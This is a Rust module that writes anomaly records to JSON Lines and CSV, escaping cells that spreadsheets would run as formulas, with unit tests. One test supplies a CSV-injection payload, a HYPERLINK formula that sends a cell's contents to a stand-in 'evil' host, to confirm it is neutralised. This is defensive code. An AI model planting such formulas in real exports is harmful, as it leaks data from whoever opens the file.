//! JSON Lines and CSV: one anomaly a line, written as each window arrives.

use std::io::Write;

use mcp_storage::store::AnomalyRecord;

use super::{COLUMNS, ExportError};

/// Writes each anomaly as one JSON object and a newline.
pub(super) fn json_lines<W: Write>(out: &mut W, records: &[AnomalyRecord]) -> Result<(), ExportError> {
    for record in records {
        serde_json::to_writer(&mut *out, record)?;
        out.write_all(b"\n")?;
    }
    Ok(())
}

/// The header row, written first even when no anomaly follows, so an empty
/// export still tells a reader its columns.
pub(super) fn csv_header<W: Write>(out: &mut W) -> Result<(), ExportError> {
    let mut writer = csv::WriterBuilder::new().has_headers(false).from_writer(out);
    writer.write_record(COLUMNS)?;
    writer.flush()?;
    Ok(())
}

pub(super) fn csv_rows<W: Write>(out: &mut W, records: &[AnomalyRecord]) -> Result<(), ExportError> {
    let mut writer = csv::WriterBuilder::new().has_headers(false).from_writer(out);
    for record in records {
        writer.serialize(spreadsheet_safe(record))?;
    }
    writer.flush()?;
    Ok(())
}

/// A CSV export is opened in spreadsheets, which run a cell that starts
/// with `=`, `+`, `-` or `@` as a formula; sources, reasons and labels come
/// from devices and agents, so such a text cell gets a leading `'`, which
/// spreadsheets show as text (OWASP's advice for CSV injection). Numbers
/// are written as they are; JSON Lines and Parquet are never changed.
fn spreadsheet_safe(record: &AnomalyRecord) -> AnomalyRecord {
    let safe = |text: &str| -> String {
        if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text.to_string() }
    };
    AnomalyRecord {
        agent: safe(&record.agent),
        agent_sha256: safe(&record.agent_sha256),
        log_type: safe(&record.log_type),
        source: safe(&record.source),
        label: safe(&record.label),
        severity: safe(&record.severity),
        reason: safe(&record.reason),
        model: record.model.as_deref().map(safe),
        entry_fields: record.entry_fields.as_deref().map(safe),
        ..record.clone()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> AnomalyRecord {
        AnomalyRecord {
            id: 7,
            agent: "dns".into(),
            agent_sha256: "ab".into(),
            log_type: "dns".into(),
            log_id: 3,
            source: "resolver, \"east\"".into(),
            log_ts_ms: 1,
            score: 0.5,
            label: "tunnel".into(),
            severity: "high".into(),
            reason: "line\nbreak".into(),
            detected_at_ms: 2,
            schema_version: 1,
            model: None,
            entry_fields: Some("{\"a\":1}".into()),
        }
    }

    #[test]
    fn the_written_header_is_the_one_serde_would_write() -> Result<(), ExportError> {
        let mut serde_header = Vec::new();
        let mut writer = csv::Writer::from_writer(&mut serde_header);
        writer.serialize(sample())?;
        drop(writer);
        let mut ours = Vec::new();
        csv_header(&mut ours)?;
        let first_line = serde_header.split(|b| *b == b'\n').next().unwrap_or_default();
        assert_eq!(ours, [first_line, b"\n"].concat());
        Ok(())
    }

    #[test]
    fn rows_read_back_with_quotes_and_line_breaks() -> Result<(), ExportError> {
        let mut file = Vec::new();
        csv_header(&mut file)?;
        csv_rows(&mut file, &[sample()])?;
        let mut reader = csv::Reader::from_reader(file.as_slice());
        let row = reader.records().next().transpose()?.unwrap_or_default();
        assert_eq!(row.get(5), Some("resolver, \"east\""));
        assert_eq!(row.get(10), Some("line\nbreak"));
        Ok(())
    }

    #[test]
    fn a_cell_a_spreadsheet_would_run_is_written_as_text() -> Result<(), ExportError> {
        let hostile = AnomalyRecord {
            source: "=HYPERLINK(\"http://evil/?\"&A1,\"click\")".into(),
            reason: "-2+3".into(),
            label: "@SUM(A1)".into(),
            ..sample()
        };
        let mut file = Vec::new();
        csv_rows(&mut file, &[hostile])?;
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(file.as_slice());
        let row = reader.records().next().transpose()?.unwrap_or_default();
        assert_eq!(row.get(5), Some("'=HYPERLINK(\"http://evil/?\"&A1,\"click\")"));
        assert_eq!(row.get(10), Some("'-2+3"));
        assert_eq!(row.get(8), Some("'@SUM(A1)"));
        assert_eq!(row.get(0), Some("7"), "numbers stay numbers");
        Ok(())
    }
}
